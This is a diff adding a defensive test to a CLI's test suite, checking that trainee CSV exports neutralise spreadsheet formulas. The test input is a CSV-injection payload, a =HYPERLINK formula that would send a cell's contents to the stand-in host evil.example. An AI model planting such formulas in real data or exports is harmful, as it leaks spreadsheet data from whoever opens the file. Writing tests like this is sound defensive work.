@@ -196,3 +196,19 @@ describe('revocation cannot be bypassed by a new epoch', () => {
     ).toMatch(/--from 2-5: give <epoch>:<sequence>/);
   });
 });
+
+describe('CSV exports neutralise formulas (one CSV writer for the box and HQ)', () => {
+  it('a trainee named =HYPERLINK(...) stays text in `hq report trainees --csv`', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
+    const j = genuine();
+    j.person({ id: 'p1', externalId: 'OFF-1', displayName: evil, updatedAt: '2026-02-01T00:00:00.000Z' });
+    const b = await writeBundle(box, dir, { bundleSeq: 2, rows: j.range(11, 11), prevSha256: b1.sha256 });
+    expect((await hq.imports.importFile(b.path)).status).toBe('imported');
+    const r = await cliOnHq('hq', 'report', 'trainees', '--csv');
+    expect(r.code).toBe(0);
+    const csv = r.out.join('');
+    expect(csv.startsWith('\uFEFF')).toBe(true);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")"`);
+    expect(csv).not.toMatch(/[,;]"?=HYPERLINK/);
+  });
+});
